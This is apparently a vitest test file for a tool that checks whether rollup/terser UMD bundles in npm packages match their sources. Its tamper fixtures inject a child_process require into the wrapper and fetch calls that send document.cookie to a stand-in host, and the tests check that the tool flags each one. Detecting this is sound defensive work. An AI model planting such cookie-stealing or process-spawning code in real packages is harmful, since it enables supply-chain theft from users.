/**
 * rollup's UMD wrapper in a minified bundle (mitt 3.0.1's dist/mitt.umd.js, microbundle `-f umd`: rollup + terser).
 * terser puts the whole bundle on one line, and the wrapper before the factory —
 * `!function(e,t){"object"==typeof exports&&…define.amd?define(t):(e=e||self).NAME=t()}(this,function(){` — has no
 * mapping, so its names (`define`, `amd`, `self`, NAME) were names no mapped source line holds: NPM_BUILD_OUTPUT_MISMATCH
 * high. The outputs below are what the real rollup wrote for SOURCE, run once outside the repository: rollup 2.10.0 with
 * rollup-plugin-terser 7.0.2 (terser 5.51.4) (`(e=e||self).tinybus=t()`, as mitt's) into dist/, rollup 3.29.4 with
 * @rollup/plugin-terser 0.4.4 (terser 5.51.4) and `compact: true` (the `globalThis` form, as eventemitter3's and dayjs's) into umd/;
 * `format: 'umd', name: 'tinybus', sourcemap: true`. The test packs them with the real npm pack from a real git tag.
 * Twins: a wrapper that loads a module, a wrapper assigning a global the sources do not declare, a call added
 * to the wrapper or to the factory after it — each stays NPM_BUILD_OUTPUT_MISMATCH high.
 */
import { describe, expect, it } from 'vitest';
import { umdFactoryLine } from '../../src/profiles/npm-dist.js';
import { npmReleaseMaker, editIn } from '../helpers/npm-pack.js';
import { tempDir } from '../helpers/tmp.js';

const SOURCE = `/**
 * A tiny event bus.
 */
export default function tinybus(all) {
  all = all || new Map();
  return {
    all,
    on(type, handler) {
      const list = all.get(type);
      if (list) list.push(handler);
      else all.set(type, [handler]);
    },
    emit(type, evt) {
      const list = all.get(type);
      if (list) list.slice().map((h) => h(evt));
    },
  };
}
`;
/** What the real rollup 2.10.0 + rollup-plugin-terser 7.0.2 (dist/) and rollup 3.29.4 + @rollup/plugin-terser 0.4.4 (umd/) wrote for SOURCE. */
const ROLLUP: Record<string, string> = {
  "dist/tinybus.umd.js": "!function(e,t){\"object\"==typeof exports&&\"undefined\"!=typeof module?module.exports=t():\"function\"==typeof define&&define.amd?define(t):(e=e||self).tinybus=t()}(this,function(){\"use strict\";return function(e){return{all:e=e||new Map,on(t,n){const o=e.get(t);o?o.push(n):e.set(t,[n])},emit(t,n){const o=e.get(t);o&&o.slice().map(e=>e(n))}}}});\n//# sourceMappingURL=tinybus.umd.js.map\n",
  "dist/tinybus.umd.js.map": "{\"version\":3,\"file\":\"tinybus.umd.js\",\"sources\":[\"../src/index.js\"],\"sourcesContent\":[\"/**\\n * A tiny event bus.\\n */\\nexport default function tinybus(all) {\\n  all = all || new Map();\\n  return {\\n    all,\\n    on(type, handler) {\\n      const list = all.get(type);\\n      if (list) list.push(handler);\\n      else all.set(type, [handler]);\\n    },\\n    emit(type, evt) {\\n      const list = all.get(type);\\n      if (list) list.slice().map((h) => h(evt));\\n    },\\n  };\\n}\\n\"],\"names\":[\"all\",\"Map\",\"on\",\"type\",\"handler\",\"list\",\"get\",\"push\",\"set\",\"emit\",\"evt\",\"slice\",\"map\",\"h\"],\"mappings\":\"oMAGe,SAAiBA,GAE9B,MAAO,CACLA,IAFFA,EAAMA,GAAO,IAAIC,IAGf,EAAAC,CAAGC,EAAMC,GACP,MAAMC,EAAOL,EAAIM,IAAIH,GACjBE,EAAMA,EAAKE,KAAKH,GACfJ,EAAIQ,IAAIL,EAAM,CAACC,KAEtB,IAAAK,CAAKN,EAAMO,GACT,MAAML,EAAOL,EAAIM,IAAIH,GACjBE,GAAMA,EAAKM,QAAQC,IAAKC,GAAMA,EAAEH,KAG1C\"}",
  "umd/tinybus.umd.js": "!function(e,t){\"object\"==typeof exports&&\"undefined\"!=typeof module?module.exports=t():\"function\"==typeof define&&define.amd?define(t):(e=\"undefined\"!=typeof globalThis?globalThis:e||self).tinybus=t()}(this,function(){\"use strict\";return function(e){return{all:e=e||new Map,on(t,n){const o=e.get(t);o?o.push(n):e.set(t,[n])},emit(t,n){const o=e.get(t);o&&o.slice().map(e=>e(n))}}}});//# sourceMappingURL=tinybus.umd.js.map\n",
  "umd/tinybus.umd.js.map": "{\"version\":3,\"file\":\"tinybus.umd.js\",\"sources\":[\"../src/index.js\"],\"sourcesContent\":[\"/**\\n * A tiny event bus.\\n */\\nexport default function tinybus(all) {\\n  all = all || new Map();\\n  return {\\n    all,\\n    on(type, handler) {\\n      const list = all.get(type);\\n      if (list) list.push(handler);\\n      else all.set(type, [handler]);\\n    },\\n    emit(type, evt) {\\n      const list = all.get(type);\\n      if (list) list.slice().map((h) => h(evt));\\n    },\\n  };\\n}\\n\"],\"names\":[\"g\",\"f\",\"exports\",\"module\",\"define\",\"amd\",\"globalThis\",\"self\",\"tinybus\",\"this\",\"all\",\"Map\",\"on\",\"type\",\"handler\",\"list\",\"get\",\"push\",\"set\",\"emit\",\"evt\",\"slice\",\"map\",\"h\"],\"mappings\":\"CAAA,SAAAA,EAAAC,GAAA,iBAAAC,SAAA,oBAAAC,OAAAA,OAAAD,QAAAD,IAAA,mBAAAG,QAAAA,OAAAC,IAAAD,OAAAH,IAAAD,EAAA,oBAAAM,WAAAA,WAAAN,GAAAO,MAAAC,QAAAP,GAAA,CAAA,CAAAQ,KAAA,WAAA,aAiBA,OAde,SAAiBC,GAE9B,MAAO,CACLA,IAFFA,EAAMA,GAAO,IAAIC,IAGf,EAAAC,CAAGC,EAAMC,GACP,MAAMC,EAAOL,EAAIM,IAAIH,GACjBE,EAAMA,EAAKE,KAAKH,GACfJ,EAAIQ,IAAIL,EAAM,CAACC,GACrB,EACD,IAAAK,CAAKN,EAAMO,GACT,MAAML,EAAOL,EAAIM,IAAIH,GACjBE,GAAMA,EAAKM,QAAQC,IAAKC,GAAMA,EAAEH,GACrC,EAEL,CAAA\"}",
};

const root = tempDir('distdiff-npm-umd-');
const release = npmReleaseMaker(root, {
  'package.json': JSON.stringify({ name: 'tinybus', version: '1.0.0', 'umd:main': 'dist/tinybus.umd.js', source: 'src/index.js', files: ['dist', 'umd'], scripts: { build: 'microbundle -f umd' } }, null, 2) + '\n',
  'src/index.js': SOURCE,
  '.gitignore': 'dist/\numd/\n',
}, '1.0.0', ROLLUP);

const R2 = 'dist/tinybus.umd.js';
const R3 = 'umd/tinybus.umd.js';

describe("rollup's minified UMD wrapper", () => {
  it('both bundles as rollup and terser wrote them: NPM_BUILD_OUTPUT (source-map)', async () => {
    const at = await release();
    expect(at(R2)).toMatchObject({ code: 'NPM_BUILD_OUTPUT', severity: 'info', evidence: { proof: 'source-map', sources: ['src/index.js'] } });
    expect(at(R3)).toMatchObject({ code: 'NPM_BUILD_OUTPUT', severity: 'info', evidence: { proof: 'source-map', sources: ['src/index.js'] } });
  }, 60_000);

  it('twin: a wrapper that loads a module (a dependency the sources do not import) stays MISMATCH high', async () => {
    const at = await release(editIn(R2, 'module.exports=t():"function"==typeof define&&define.amd?define(t):(e=e||self).tinybus=t()', 'module.exports=t(require("child_process")):"function"==typeof define&&define.amd?define(["child_process"],t):(e=e||self).tinybus=t(e.child_process)'));
    expect(at(R2)).toMatchObject({ code: 'NPM_BUILD_OUTPUT_MISMATCH', severity: 'high' });
    expect(at(R3)).toMatchObject({ code: 'NPM_BUILD_OUTPUT', severity: 'info' });
  }, 60_000);

  it('twins: a global the sources do not declare, a statement inside the wrapper stay MISMATCH high', async () => {
    const at = await release(editIn(R3, '.tinybus=t()', '.fetch=t()'));
    expect(at(R3)).toMatchObject({ code: 'NPM_BUILD_OUTPUT_MISMATCH', severity: 'high' });
    const at2 = await release(editIn(R2, '.tinybus=t()}', '.tinybus=t(),e.fetch("https://x.example/"+e.document.cookie)}'));
    expect(at2(R2)).toMatchObject({ code: 'NPM_BUILD_OUTPUT_MISMATCH', severity: 'high' });
    // and inside the factory, after the wrapper: the name check of the mapped line as before
    const at3 = await release(editIn(R3, '"use strict";return', '"use strict";fetch("https://x.example/"+document.cookie);return'));
    expect(at3(R3)).toMatchObject({ code: 'NPM_BUILD_OUTPUT_MISMATCH', severity: 'high' });
  }, 60_000);

  it('umdFactoryLine: only the exact wrapper, parameters distinct, NAME declared by a source', () => {
    const w = (g: string) => `!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():"function"==typeof define&&define.amd?define(t):(${g}).bus=t()}(this,function(){return 1});`;
    expect(umdFactoryLine(w('e=e||self'), ['function bus() {}'])).toBe('return 1});');
    expect(umdFactoryLine(w('e="undefined"!=typeof globalThis?globalThis:e||self'), ['export const bus = 1'])).toBe('return 1});');
    // NAME only a property or a word of a comment: not declared
    expect(umdFactoryLine(w('e=e||self'), ['x.bus = 1 // bus'])).toBe(w('e=e||self'));
    // another global object expression
    expect(umdFactoryLine(w('e=e||window.top'), ['function bus() {}'])).toBe(w('e=e||window.top'));
    // the same name for both parameters
    expect(umdFactoryLine(w('e=e||self').replace('function(e,t)', 'function(t,t)'), ['function bus() {}'])).toBe(w('e=e||self').replace('function(e,t)', 'function(t,t)'));
  });
});
